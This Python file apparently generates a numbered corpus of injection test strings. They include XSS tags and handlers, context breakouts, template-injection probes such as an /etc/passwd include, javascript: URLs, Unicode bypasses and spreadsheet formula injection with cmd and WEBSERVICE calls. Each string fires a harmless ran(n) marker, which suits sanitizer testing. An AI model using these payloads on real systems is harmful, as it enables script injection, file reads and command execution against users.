"""Hundreds of texts that want to be more than text, each with a number by which it is known."""

import html
from itertools import product
from urllib.parse import quote


def _lines(text: str) -> list[str]:
    return text.split("\n")[1:-1]


# Put between what comes before and after it in a page: tags, scripts, handlers, htmx, styles.
_VECTORS = _lines("""
<script>ran(N)</script>
<img src=x onerror=ran(N)>
<svg onload=ran(N)>
<svg><script>ran(N)</script></svg>
<svg><animate onbegin=ran(N) attributeName=x dur=1s>
<iframe srcdoc="<script>parent.ran(N)</script>"></iframe>
<iframe src="javascript:parent.ran(N)"></iframe>
<details open ontoggle=ran(N)>x</details>
<video><source onerror=ran(N)></video>
<audio src=x onerror=ran(N)>
<input autofocus onfocus=ran(N)>
<a href="javascript:ran(N)">x</a>
<a href="data:text/html,<script>ran(N)</script>">x</a>
<form action="javascript:ran(N)"><button>x</button></form>
<div hx-get="/ran/N" hx-trigger="load">x</div>
<div hx-on:click="ran(N)" hx-on::load="ran(N)">x</div>
<style>*{background:url(/ran/N)}</style>
<link rel=stylesheet href=/ran/N>
<base href="//ran.example/N/">
<meta http-equiv=refresh content="0;url=/ran/N">
<object data="javascript:ran(N)"></object>
<embed src="/ran/N">
<math><mtext><table><mglyph><style><img src=x onerror=ran(N)>
<noscript><p title="</noscript><img src=x onerror=ran(N)>">
<marquee onstart=ran(N)>x</marquee>
""")
# Ways out of where a text usually stands.
_WAYS_OUT = [
    "", '">', "'>", "</script>", "</title>", "</textarea>", "</style>", "</template>", "-->",
    "]]>", "</option></select>", "</svg>", "</td></tr></table>", "\\\">",
]  # fmt: skip
_ATTRIBUTES = _lines("""
" onmouseover="ran(N)
' autofocus onfocus='ran(N)
" style="animation-name:x" onanimationstart="ran(N)
x" hx-get="/ran/N" hx-trigger="load
x' hx-vals='js:{a:ran(N)}
x" data-confirm="x" formaction="javascript:ran(N)
" srcdoc="<script>parent.ran(N)</script>
`onfocus=ran(N) autofocus `
x onerror=ran(N) x=
" accesskey="x" onclick="ran(N)" x="
""")
_SCRIPTS = _lines("""
";ran(N);//
';ran(N);//
\\";ran(N);//
\\');ran(N);//
`+ran(N)+`
${ran(N)}
"}]);ran(N);([{"
\\u003cimg src=x onerror=ran(N)\\u003e
\\x3cscript\\x3eran(N)\\x3c/script\\x3e
</script><script>ran(N)</script>
<!--<script>ran(N)//
*/ran(N)/*
__proto__":{"x":ran(N)},"
\u2028ran(N)\u2028
""")
_TEMPLATES = _lines("""
{{7*7}}ran(N)
{{ran(N)}}
{% now "Y" %}ran(N)
{% include "/etc/passwd" %}ran(N)
${7*7}ran(N)
#{7*7}ran(N)
<%= 7*7 %>ran(N)
{{constructor.constructor('ran(N)')()}}
{{''.__class__.__mro__}}ran(N)
%(name)s %s {0} {desk}ran(N)
{b}{a|ran(N)}{@[0]}
<br><b onclick=ran(N)>{c}
""")
_ADDRESSES = _lines("""
javascript:ran(N)
JaVaScRiPt:ran(N)
java\tscript:ran(N)
\x01javascript:ran(N)
 javascript:ran(N)
javascript&colon;ran(N)
javascript:%72an(N)
javascript://example.com/%0aran(N)
data:text/html,<script>ran(N)</script>
data:text/html;base64,PHNjcmlwdD5yYW4oTik8L3NjcmlwdD4=#N
vbscript:ran(N)
feed:javascript:ran(N)
view-source:javascript:ran(N)
//ran.example/N
https://ok.example/"onmouseover="ran(N)
https://ok.example/'><img src=x onerror=ran(N)>
https://javascript:ran(N)@ok.example/
""")
_UNICODE = _lines("""
\uff1cscript\uff1eran(N)\uff1c/script\uff1e
<\u017fcript>ran(N)</\u017fcript>
<scr\u200bipt>ran(N)</scr\u200bipt>
\u202e<script>ran(N)</script>
<img\u00a0src=x\u00a0onerror=ran(N)>
<img\u3000src=x onerror=ran(N)>
\ufeff<svg onload=ran(N)>
<svg\u2028onload=ran(N)>
\U0001f600<img src=x onerror=ran(N)>\U0001f600
<\u0130mg src=x onerror=ran(N)>
\u0338<script>ran(N)</script>
\u02bascript\u02ba onmouseover=\u02baran(N)
""")
_SHAPES = _lines("""
<sCrIpT>ran(N)</ScRiPt>
<img/src/onerror=ran(N)>
<svg/onload=ran(N)//
<script >ran(N)</script
<<script>ran(N);//<</script>
<img src="x` `<script>ran(N)</script>"` `>
<svg><style><img src=x onerror=ran(N)></style></svg>
<p title="<!--</p><img src=x onerror=ran(N)>-->">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(N)>
<select><template><img src=x onerror=ran(N)></template></select>
<table><caption><svg><title><style></caption></table><img src=x onerror=ran(N)>
<xmp><p title="</xmp><img src=x onerror=ran(N)>">
<plaintext><img src=x onerror=ran(N)>
<button popovertarget=x onbeforetoggle=ran(N)>
<div><template shadowrootmode=open><img src=x onerror=ran(N)></template></div>
""")
FORMULAS = _lines("""
=HYPERLINK("javascript:ran(N)","x")
=1+1
=cmd|' /C ran(N)'!A0
+1+cmd|' /C ran(N)'!A0
-2+3+ran(N)
@SUM(1+1)*ran(N)
\t=1+N
\uff1d1+N
\uff0b1+N
=IMPORTXML("https://ran.example/N","//a")
=WEBSERVICE("https://ran.example/N")
%0A=1+N
""")


def _encoded(text: str) -> list[str]:
    once = html.escape(text)
    return [
        once,
        html.escape(once),
        quote(text),
        quote(quote(text)),
        "".join(f"&#{ord(letter)};" for letter in text),
        "".join(f"\\u{ord(letter):04x}" for letter in text),
    ]


def corpus() -> list[str]:
    """The texts in a fixed order; the one at place n calls ``ran(n)`` or asks for /ran/n."""
    plain = [
        *(out + vector for vector, out in product(_VECTORS, _WAYS_OUT)),
        *(variant for vector in _VECTORS[:12] for variant in _encoded(vector.replace("N", "0"))),
        *_ATTRIBUTES, *_SCRIPTS, *_TEMPLATES, *_ADDRESSES, *_UNICODE, *_SHAPES, *FORMULAS,
    ]  # fmt: skip
    return [text.replace("N", str(number)) for number, text in enumerate(dict.fromkeys(plain))]
